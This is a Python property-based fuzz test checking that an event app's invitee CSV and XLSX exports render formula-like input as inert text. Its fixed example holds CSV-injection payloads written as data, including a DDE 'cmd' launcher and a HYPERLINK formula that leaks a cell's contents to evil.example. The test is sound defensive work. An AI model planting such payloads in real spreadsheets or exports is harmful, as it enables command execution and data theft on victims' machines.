"""Fuzzing formula injection: whatever invitees and their representatives are called, and
whatever they write in their notes, the CSV and XLSX exports hold it as inert text."""

from __future__ import annotations

import csv
import io
import itertools
import secrets
from dataclasses import dataclass

from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy.engine import Engine

from roundtable.db import read_session, write_session
from roundtable.invitations.model import Invitation, Status
from roundtable.invitations.tokens import new_salt
from roundtable.people.model import Organization
from roundtable.reports.exports import invitees_csv, invitees_xlsx
from roundtable.reports.render import INVITEE_COLUMNS, looks_like_formula
from tests.factories import make_contact, make_event
from tests.fuzz.strategies import FORMULA_STARTERS, FORMULAS, FUZZ, scaled

#: what a name or a note may hold once the input rules let it in (no control characters)
printable = st.characters(blacklist_categories=("Cc", "Cs"))


#: blanks a spreadsheet skips before it looks for a formula
LEADS = ("", " ", "  ", "\u00a0", "\u3000", "\u200b", " \u00a0")


def formula_like(max_size: int) -> st.SearchStrategy[str]:
    """Text that a spreadsheet would run: blanks, a formula starter, then anything printable."""
    return st.one_of(
        # cut to the column's length, as the database would refuse a longer one
        st.sampled_from([formula[:max_size] for formula in FORMULAS]),
        st.builds(
            lambda lead, start, rest: (lead + start + rest)[:max_size],
            st.sampled_from(LEADS),
            st.sampled_from(FORMULA_STARTERS),
            st.text(printable, max_size=max_size - 1),
        ),
    )


def maybe_formula(max_size: int) -> st.SearchStrategy[str]:
    return st.one_of(formula_like(max_size), st.text(printable, max_size=max_size))


@dataclass(frozen=True)
class Hostile:
    """An invitee who named a representative, every text of both chosen by hypothesis."""

    honorific: str
    first_name: str
    last_name: str
    full_name: str
    position: str
    organization: str
    notes: str
    local_part: str
    representative_name: str
    representative_local_part: str


hostile_invitees = st.builds(
    Hostile,
    honorific=maybe_formula(40),
    first_name=maybe_formula(200),
    last_name=formula_like(200),
    full_name=formula_like(400),
    position=maybe_formula(300),
    organization=formula_like(300),
    notes=formula_like(2000),
    local_part=st.sampled_from(["=cmd", "+sum", "-minus", "@at", "plain"]),
    representative_name=formula_like(400),
    representative_local_part=st.sampled_from(["=rep", "+rep", "-rep", "rep"]),
)
numbers = itertools.count(1)


def _store(slug: str, who: Hostile, n: int) -> dict[str, dict[str, str]]:
    """The invitee and the representative, stored; what each row of the export must say."""
    with write_session() as session:
        event = make_event(slug)
        session.add(event)
        organization = Organization(name=f"{who.organization}{n}"[-300:])
        session.add(organization)
        session.flush()
        invitee = make_contact(n, email=f"{who.local_part}{n}@example.org")
        representative = make_contact(
            n + 1, email=f"{who.representative_local_part}{n}@example.org"
        )
        session.add_all([invitee, representative])
        session.flush()
        assert event.id and invitee.id and representative.id
        declined = Invitation(
            event_id=event.id,
            contact_id=invitee.id,
            honorific=who.honorific,
            first_name=who.first_name,
            last_name=who.last_name,
            full_name=who.full_name,
            position=who.position,
            organization_id=organization.id,
            status=Status.DECLINED,
            notes=who.notes,
            token_salt=new_salt(),
            token_hash=secrets.token_hex(32),
        )
        session.add(declined)
        session.flush()
        substitute = Invitation(
            event_id=event.id,
            contact_id=representative.id,
            full_name=who.representative_name,
            status=Status.INVITED,
            representative_of_id=declined.id,
            token_salt=new_salt(),
            token_hash=secrets.token_hex(32),
        )
        session.add(substitute)
        session.flush()
        declined.represented_by_id = substitute.id
        return {
            invitee.email: {
                "email": invitee.email,
                "honorific": who.honorific,
                "first_name": who.first_name,
                "last_name": who.last_name,
                "name": who.full_name,
                "position": who.position,
                "organization": organization.name,
                "notes": who.notes,
                "represented_by": representative.email,
            },
            representative.email: {
                "email": representative.email,
                "name": who.representative_name,
                "representative_of": invitee.email,
            },
        }


def _inert(value: str) -> str:
    """What a CSV cell holding ``value`` must show: a formula behind a quote, other text as is."""
    return "'" + value if looks_like_formula(value) else value


@settings(FUZZ, max_examples=scaled(25))
@given(who=hostile_invitees)
@example(
    who=Hostile(
        honorific="@Dr",
        first_name="=1+2",
        last_name="+1",
        full_name="=cmd|' /C calc'!A0",
        position="\t=1+1",
        organization="\r=1+1",
        notes='=HYPERLINK("http://evil.example/?"&A1,"click")',
        local_part="=cmd",
        representative_name="-2+3",
        representative_local_part="+rep",
    )
)
def test_no_export_cell_is_a_formula(engine: Engine, who: Hostile) -> None:
    n = next(numbers) * 2
    slug = f"fuzz-export-{n}"
    expected = _store(slug, who, n)
    with read_session() as session:
        csv_bytes = invitees_csv(session, slug)
        xlsx_bytes = invitees_xlsx(session, slug)

    rows = list(csv.DictReader(io.StringIO(csv_bytes.decode("utf-8-sig"), newline="")))
    assert sorted(row["email"] for row in rows) == sorted(_inert(e) for e in expected)
    for row in rows:
        for column, value in row.items():
            assert not looks_like_formula(value), (column, value)
        wanted = expected[row["email"].removeprefix("'")]
        for column, value in wanted.items():
            assert row[column] == _inert(value), column

    sheet = load_workbook(io.BytesIO(xlsx_bytes)).active
    assert sheet is not None
    cells = list(sheet.iter_rows())
    assert tuple(cell.value for cell in cells[0]) == INVITEE_COLUMNS
    for line in cells[1:]:
        shown = {}
        for column, cell in zip(INVITEE_COLUMNS, line, strict=True):
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                # Typed as text: shown as written, kept text when edited (quote prefix).
                assert cell.data_type == "s", (cell.coordinate, cell.value)
                if looks_like_formula(cell.value):
                    assert cell.quotePrefix, (cell.coordinate, cell.value)
            shown[column] = "" if cell.value is None else cell.value
        wanted = expected[str(shown["email"])]
        for column, value in wanted.items():
            # XML reads a bare CR as LF.
            assert shown[column] == value.replace("\r\n", "\n").replace("\r", "\n")
